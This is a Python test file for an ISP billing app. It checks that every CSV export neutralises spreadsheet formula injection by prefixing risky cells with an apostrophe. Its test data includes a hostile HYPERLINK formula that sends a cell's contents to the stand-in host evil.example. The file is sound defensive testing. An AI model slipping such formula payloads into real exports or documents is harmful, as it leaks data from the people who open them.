"""Every CSV export neutralises a cell a spreadsheet would run as a formula (= + - @ tab CR): a name or note typed
into the panel comes out as text with a leading apostrophe, and numbers stay numbers."""
import csv
import io
import os
import re

import pytest
from sqlalchemy import update

from isp.extensions import db as _db
from isp.models import Customer, HotspotPlan, Subscription
from isp.services import billing, csvout, lifecycle
from tests.billing.conftest import bill  # noqa: F401  (fixture)
from tests.web.test_reports import RANGE, sales  # noqa: F401  (fixture)

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
LEADS = ["=", "+", "-", "@", "\t", "\r"]
HOSTILE = {lead: lead + 'HYPERLINK("http://evil.example/?"&A1,"click")' for lead in LEADS}


def _rows(client, path: str, **query) -> list[dict[str, str]]:
    response = client.get(path, query_string=query)
    assert response.status_code == 200 and response.mimetype == "text/csv", path
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("lead", LEADS)
def test_the_writer_neutralises_each_lead(lead):
    out = csvout.render(["name", "amount"], [[HOSTILE[lead], "-48.00"], ["plain", 3]])
    rows = list(csv.reader(io.StringIO(out, newline="")))
    assert rows[1] == ["'" + HOSTILE[lead], "-48.00"] and rows[2] == ["plain", "3"]


def _customer_with_an_invoice_and_a_payment(app, bill, name: str, note: str):  # noqa: F811
    plan = bill.plan("3000.00", "day", 30)
    customer = bill.customer(name)
    sub_id = bill.service(customer, plan, state="pending")
    with app.app_context():
        lifecycle.start(_db.session.get(Subscription, sub_id), bill.user())  # invoices the period: in debt
        _db.session.commit()
        billing.record_payment(_db.session.get(Customer, customer), "100.00", "cash", note, note, bill.user())
        _db.session.commit()
    return customer


@pytest.mark.parametrize("lead", ["=", "+", "-", "@"])  # names refuse control characters, so tab and CR are above
def test_customer_invoice_payment_and_debt_exports(app, client, auth, bill, lead):  # noqa: F811
    name, note = HOSTILE[lead], lead + "SUM(A1:A9)"
    _customer_with_an_invoice_and_a_payment(app, bill, name, note)
    with app.app_context():  # a name stored behind the form's back (an import, an old row) is covered too
        _db.session.execute(update(Customer).values(name=name, notes=note))
        _db.session.commit()
    auth.login_as("admin")
    customers = _rows(client, "/imports/export/customers.csv")
    assert [r["name"] for r in customers] == ["'" + name] and customers[0]["notes"] == "'" + note
    assert re.fullmatch(r"-?[0-9]+\.[0-9]{2}", customers[0]["balance"])  # a negative balance is still a number
    invoices = _rows(client, "/billing/invoices.csv")
    assert invoices and all(r["customer"] == "'" + name for r in invoices)
    payments = _rows(client, "/billing/payments.csv")
    assert [(r["customer"], r["note"], r["reference"]) for r in payments] == [("'" + name, "'" + note, "'" + note)]
    debt = _rows(client, "/billing/debt.csv")
    assert [r["customer"] for r in debt] == ["'" + name] and debt[0]["balance"].startswith("-")
    assert not debt[0]["balance"].startswith("'")


@pytest.mark.parametrize("lead", ["=", "@", "+"])
def test_voucher_and_report_exports(app, client, auth, sales, lead):  # noqa: F811
    label = HOSTILE[lead]
    with app.app_context():
        _db.session.execute(update(HotspotPlan).where(HotspotPlan.name == "Gold").values(name=label))
        _db.session.commit()
    auth.login_as("admin")
    report = _rows(client, "/reports/sales.csv", **RANGE, group="plan")
    assert ["'" + label, "2", "51.00"] == [report[0]["Plan"], report[0]["Activations"], report[0]["Revenue"]]
    vouchers = _rows(client, "/vouchers/export.csv")
    gold = [r for r in vouchers if r["plan"] != "Basic"]
    assert gold and all(r["plan"] == "'" + label for r in gold)


def test_every_csv_writer_in_the_product_goes_through_csvout():
    offenders = []
    for root, _dirs, files in os.walk(os.path.join(ROOT, "isp")):
        for name in files:
            path = os.path.join(root, name)
            if not name.endswith(".py") or path.endswith(os.path.join("services", "csvout.py")):
                continue
            text = open(path, encoding="utf-8").read()
            if re.search(r"csv\.(writer|DictWriter)\(|\.writerows?\(", text):  # only csvout writes CSV
                offenders.append(os.path.relpath(path, ROOT))
    assert offenders == []
